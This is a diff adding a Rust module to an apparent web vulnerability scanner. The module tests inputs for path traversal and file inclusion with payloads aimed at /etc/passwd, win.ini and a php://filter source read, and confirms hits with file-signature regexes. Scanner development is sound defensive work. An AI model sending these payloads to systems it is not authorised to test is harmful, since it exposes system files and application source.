@@ -1,0 +1,141 @@
+//! Path traversal and local file inclusion by known-file signatures.
+
+use super::common::inject;
+use crate::catalogue::{locs, module_id, OWASP_A01};
+use crate::client::{SendError, Sent};
+use crate::ctx::{Ctx, Hit};
+use crate::finding::Confidence;
+use crate::target::{InsertionPoint, Resource};
+use rampart_domain::catalogue::{AttackMeta, ModuleMeta};
+use rampart_domain::{ModuleType, Severity};
+use regex::Regex;
+use std::sync::LazyLock;
+
+pub(crate) const KEY: &str = "path_traversal";
+
+pub(crate) fn meta() -> ModuleMeta {
+    ModuleMeta {
+        id: module_id(KEY),
+        key: KEY,
+        name: "Path Traversal",
+        description: "<p>Input is used to build a file path, letting an attacker read files outside the intended directory, such as system password files or application sources.</p>",
+        recommendation: "Map input to an allow-list of files or identifiers; never use it in a path. Canonicalise and check that the result stays under the base directory.",
+        module_type: ModuleType::Active,
+        severity: Severity::High,
+        cwe: 22,
+        wasc: Some(33),
+        owasp_2021: "A01:2021-Broken Access Control",
+        cvss_vector: "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:N/A:N",
+        parameter_locations: locs::INPUTS,
+        references: &[
+            ("CWE-22: Improper Limitation of a Pathname to a Restricted Directory", "https://cwe.mitre.org/data/definitions/22.html"),
+            ("OWASP Path Traversal", "https://owasp.org/www-community/attacks/Path_Traversal"),
+            OWASP_A01,
+        ],
+        attacks: &[
+            AttackMeta {
+                id: "PT_01",
+                kind: "Relative traversal",
+                class: "Path Traversal",
+                description: "../ sequences, plain and encoded, to /etc/passwd and win.ini, confirmed by file signatures.",
+            },
+            AttackMeta {
+                id: "PT_02",
+                kind: "Absolute path",
+                class: "Path Traversal",
+                description: "Absolute paths and file:// URLs to well-known files.",
+            },
+            AttackMeta {
+                id: "PT_03",
+                kind: "PHP filter wrapper",
+                class: "File Inclusion",
+                description: "php://filter base64 output of a known file.",
+            },
+        ],
+    }
+}
+
+static SIGNATURES: LazyLock<Vec<(&'static str, Regex)>> = LazyLock::new(|| {
+    [
+        ("/etc/passwd", r"root:[^:\n]*:0:0:"),
+        ("win.ini", r"(?i)\[(fonts|extensions)\][\s\S]{0,200}\[(mci extensions|files)\]|; for 16-bit app support"),
+        ("php://filter", r"PD9waHA[0-9A-Za-z+/=]{8,}"),
+    ]
+    .into_iter()
+    .filter_map(|(n, r)| Regex::new(r).ok().map(|re| (n, re)))
+    .collect()
+});
+
+const UP: &str = "../../../../../../../../../../";
+
+fn payloads(original: &str) -> Vec<(&'static str, String)> {
+    let mut v = vec![
+        ("PT_01", format!("{UP}etc/passwd")),
+        (
+            "PT_01",
+            format!("{}etc/passwd", UP.replace("../", "....//")),
+        ),
+        (
+            "PT_01",
+            format!("{}etc%2fpasswd", UP.replace("../", "..%2f")),
+        ),
+        ("PT_01", format!("{UP}etc/passwd%00")),
+        (
+            "PT_01",
+            format!("{}windows\\win.ini", UP.replace('/', "\\")),
+        ),
+        ("PT_02", "/etc/passwd".to_string()),
+        ("PT_02", "file:///etc/passwd".to_string()),
+        ("PT_02", "C:\\Windows\\win.ini".to_string()),
+        (
+            "PT_03",
+            "php://filter/convert.base64-encode/resource=index.php".to_string(),
+        ),
+    ];
+    if let Some(i) = original.rfind('/') {
+        v.push(("PT_01", format!("{}/{UP}etc/passwd", &original[..i])));
+    }
+    v
+}
+
+pub(crate) async fn attack(
+    ctx: &Ctx,
+    r: &Resource,
+    orig: &Sent,
+    p: &InsertionPoint,
+) -> Result<(), SendError> {
+    if ctx.already(KEY, r, Some(p)).await {
+        return Ok(());
+    }
+    let orig_text = orig.response.text();
+    for (attack_id, value) in payloads(&p.original) {
+        let sent = inject(ctx, r, p, &value).await?;
+        let text = sent.response.text();
+        for (file, re) in SIGNATURES.iter() {
+            if let Some(m) = re.find(&text) {
+                if re.is_match(&orig_text) {
+                    continue;
+                }
+                ctx.report_point(
+                    r,
+                    Some(p),
+                    Hit {
+                        module: KEY,
+                        attack_id,
+                        value: &value,
+                        proof: m.as_str().chars().take(200).collect(),
+                        proof_description: &format!(
+                            "the content of {file} appears in the response"
+                        ),
+                        confidence: Confidence::Confirmed,
+                        original: Some(orig),
+                        attack: Some(&sent),
+                    },
+                )
+                .await;
+                return Ok(());
+            }
+        }
+    }
+    Ok(())
+}
